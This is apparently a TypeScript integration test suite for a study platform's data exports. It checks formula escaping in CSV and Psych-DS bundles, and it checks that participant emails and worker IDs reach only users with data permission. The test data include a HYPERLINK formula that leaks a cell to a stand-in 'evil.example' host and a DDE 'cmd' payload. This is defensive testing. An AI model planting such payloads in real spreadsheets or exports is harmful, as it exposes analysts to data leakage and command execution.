import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from 'bun:test';
import { parse } from 'csv-parse/sync';
import { and, eq } from 'drizzle-orm';
import { unzipSync } from 'fflate';
import type { Database } from '../../src/lib/server/db/database';
import {
	participants,
	roomEvents,
	stageResponses,
	studyMembers
} from '../../src/lib/server/db/schema';
import { createBlankStudy, createStage } from '../../src/lib/study';
import { makeExportStudy, seedScenario, seedStudy } from '../integration/export-seed';
import {
	seedAccount,
	serverTargets,
	signInOverApi,
	type SeededServer
} from '../support/seeded-server';
import { createAdminApi } from '../support/study-server';

// What leaves Ensemble in an export, attacked from the participant's side:
// - formula injection: participant text starting with =, +, -, @, tab or CR is a formula to a
//   spreadsheet (`=HYPERLINK(...)` phones home with a click). CSV cells are escaped by default
//   and written raw only when asked (`escapeFormulas=0`) for analysis pipelines;
// - identifying link parameters: `email`, `workerId`… from a study link reach only those with
//   the data permission who ask for identifying data (`externalIds=1`), unless the study lists
//   them as safe; a viewer or a colleague without the permission never sees them, in the
//   participants dataset or in the Psych-DS bundle.
setDefaultTimeout(120_000);

const STUDY = 'study-guarded';
const PASSWORD = 'sturdy evening lantern';
const ACCOUNTS = {
	owner: { id: 'owner-g', email: 'owner@guard.test', role: 'researcher' },
	viewer: { id: 'viewer-g', email: 'viewer@guard.test', role: 'viewer' },
	colleague: { id: 'colleague-g', email: 'colleague@guard.test', role: 'researcher' },
	trusted: { id: 'trusted-g', email: 'trusted@guard.test', role: 'researcher' }
} as const;
type Who = keyof typeof ACCOUNTS;

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your reward")';
const ANSWER = "@SUM(1+1)*cmd|' /C calc'!A0";
const EMAIL = 'pat.participant@mail.example';

/** The known export scenario, with one chat message and one answer made into formulas and p1's
 * link carrying an email address and a worker id besides its harmless `src`. */
async function seed(db: Database): Promise<void> {
	for (const account of Object.values(ACCOUNTS)) {
		await seedAccount(db, { ...account, password: PASSWORD });
	}
	await seedStudy(db, ACCOUNTS.owner.id, STUDY, [
		makeExportStudy('Guarded'),
		makeExportStudy('Guarded')
	]);
	await seedScenario(db, STUDY);
	const grantedAt = new Date();
	await db.insert(studyMembers).values([
		{ studyId: STUDY, userId: ACCOUNTS.viewer.id, permission: 'view', grantedAt },
		{ studyId: STUDY, userId: ACCOUNTS.colleague.id, permission: 'edit', grantedAt },
		{
			studyId: STUDY,
			userId: ACCOUNTS.trusted.id,
			permission: 'edit',
			dataAccess: true,
			grantedAt
		}
	]);
	await db
		.update(participants)
		.set({ linkParams: { src: 'mail', email: EMAIL, workerId: 'A1B2C3WORKER' } })
		.where(eq(participants.id, 'p1'));
	const [chat] = await db
		.select()
		.from(roomEvents)
		.where(and(eq(roomEvents.roomId, 'room-a'), eq(roomEvents.name, 'chat.sent')))
		.orderBy(roomEvents.seq)
		.limit(1);
	await db
		.update(roomEvents)
		.set({ payload: { ...(chat!.payload as object), text: FORMULA } })
		.where(and(eq(roomEvents.roomId, 'room-a'), eq(roomEvents.seq, chat!.seq)));
	const [survey] = await db
		.select()
		.from(stageResponses)
		.where(and(eq(stageResponses.participantId, 'p1'), eq(stageResponses.stageId, 'survey')));
	const response = survey!.response as { answers: Record<string, unknown> };
	await db
		.update(stageResponses)
		.set({ response: { ...response, answers: { ...response.answers, name: ANSWER } } })
		.where(and(eq(stageResponses.participantId, 'p1'), eq(stageResponses.stageId, 'survey')));
}

type Records = Record<string, string>[];
const readCsv = (text: string): Records => parse(text, { columns: true, bom: false });

for (const target of serverTargets('export guards')) {
	describe.skipIf(!target.available)(`export guards on ${target.name}`, () => {
		let running: SeededServer;
		const cookies = {} as Record<Who, string>;

		beforeAll(async () => {
			running = await target.start(seed);
			for (const who of Object.keys(ACCOUNTS) as Who[]) {
				cookies[who] = await signInOverApi(running.server, ACCOUNTS[who].email, PASSWORD);
			}
		});
		afterAll(() => running?.stop());

		async function fetchExport(who: Who, path: string): Promise<Response> {
			const response = await fetch(`${running.server.url}/api/studies/${STUDY}/data/${path}`, {
				headers: { cookie: cookies[who] }
			});
			expect({ path, who, status: response.status }).toEqual({ path, who, status: 200 });
			return response;
		}

		async function download(who: Who, path: string): Promise<string> {
			return (await fetchExport(who, path)).text();
		}

		/** The CSV files of a Psych-DS bundle, by dataset. */
		async function downloadBundle(who: Who, query = ''): Promise<Record<string, string>> {
			const response = await fetchExport(who, `all?format=psych-ds${query}`);
			const files = unzipSync(new Uint8Array(await response.arrayBuffer()));
			const csv: Record<string, string> = {};
			for (const [path, bytes] of Object.entries(files)) {
				const match = /description-(\w+)_data\.csv$/.exec(path);
				if (match) csv[match[1]!] = new TextDecoder().decode(bytes);
			}
			return csv;
		}

		const chatText = (text: string) => readCsv(text).map((row) => row.text);
		const p1Answer = (text: string) =>
			readCsv(text).find((row) => row.participant_id === 'p1' && row.item_id === 'name')?.response;
		const p1Params = (text: string) =>
			readCsv(text).find((row) => row.participant_id === 'p1')?.link_params ?? '';

		describe('formula injection', () => {
			test('chat.csv and responses.csv escape participant formulas by default', async () => {
				expect(chatText(await download('owner', 'chat'))).toContain(`'${FORMULA}`);
				expect(chatText(await download('owner', 'chat'))).not.toContain(FORMULA);
				expect(p1Answer(await download('owner', 'responses'))).toBe(`'${ANSWER}`);
			});

			test('escapeFormulas=0 writes them raw for analysis pipelines', async () => {
				expect(chatText(await download('owner', 'chat?escapeFormulas=0'))).toContain(FORMULA);
				expect(p1Answer(await download('owner', 'responses?escapeFormulas=0'))).toBe(ANSWER);
			});

			test('the Psych-DS bundle escapes the same way, and honours the option', async () => {
				const escaped = await downloadBundle('owner');
				expect(chatText(escaped.chat!)).toContain(`'${FORMULA}`);
				expect(p1Answer(escaped.responses!)).toBe(`'${ANSWER}`);
				const raw = await downloadBundle('owner', '&escapeFormulas=0');
				expect(chatText(raw.chat!)).toContain(FORMULA);
			});

			test('JSON and NDJSON carry the text as it was (no spreadsheet reads them)', async () => {
				const json = JSON.parse(await download('owner', 'chat?format=json')) as { text: string }[];
				expect(json.map((row) => row.text)).toContain(FORMULA);
			});

			test('a bad value for the option is refused and says so', async () => {
				const response = await fetch(
					`${running.server.url}/api/studies/${STUDY}/data/chat?escapeFormulas=maybe`,
					{ headers: { cookie: cookies.owner } }
				);
				expect(response.status).toBe(400);
				const body = (await response.json()) as { issues: { path: string }[] };
				expect(body.issues.map((issue) => issue.path)).toEqual(['escapeFormulas']);
			});
		});

		describe('identifying link parameters', () => {
			test('a viewer and a colleague without the data permission never see email or workerId', async () => {
				for (const who of ['viewer', 'colleague'] as const) {
					const csv = await download(who, 'participants');
					expect({ who, email: csv.includes(EMAIL) }).toEqual({ who, email: false });
					expect({ who, worker: csv.includes('A1B2C3WORKER') }).toEqual({ who, worker: false });
					// Every parameter the study did not list as safe is guarded, `src` too.
					expect(p1Params(csv)).toBe('');
					const bundle = await downloadBundle(who);
					expect({ who, bundle: bundle.participants!.includes(EMAIL) }).toEqual({
						who,
						bundle: false
					});
					const json = await download(who, 'participants?format=json');
					expect(json.includes(EMAIL)).toBe(false);
				}
			});

			test('with the data permission and externalIds=1 they are there; without asking, not', async () => {
				for (const who of ['owner', 'trusted'] as const) {
					expect(JSON.parse(p1Params(await download(who, 'participants?externalIds=1')))).toEqual({
						src: 'mail',
						email: EMAIL,
						workerId: 'A1B2C3WORKER'
					});
					expect(p1Params(await download(who, 'participants'))).toBe('');
					const bundle = await downloadBundle(who, '&externalIds=1');
					expect(bundle.participants!.includes(EMAIL)).toBe(true);
				}
			});

			test('parameters the study lists as safe reach everyone who may export', async () => {
				const api = createAdminApi(running.server, cookies.owner);
				const detail = await api<{ revision: number }>('GET', `/api/studies/${STUDY}`);
				// A new version (its stages do not matter here) that lists two parameters as safe.
				const definition = createBlankStudy('Guarded');
				const consent = createStage('consent', []);
				if (consent.type === 'consent') consent.content.markdown = 'We keep your answers.';
				definition.stages = [consent, createStage('end', ['consent'])];
				definition.settings.safeLinkParameters = ['src', 'email'];
				await api('PUT', `/api/studies/${STUDY}`, { definition, revision: detail.revision });
				await api('POST', `/api/studies/${STUDY}/publish`);
				for (const who of ['viewer', 'colleague'] as const) {
					const csv = await download(who, 'participants');
					expect(JSON.parse(p1Params(csv))).toEqual({ src: 'mail', email: EMAIL });
					const bundle = await downloadBundle(who);
					expect(bundle.participants!.includes(EMAIL)).toBe(true);
				}
			});
		});
	});
}
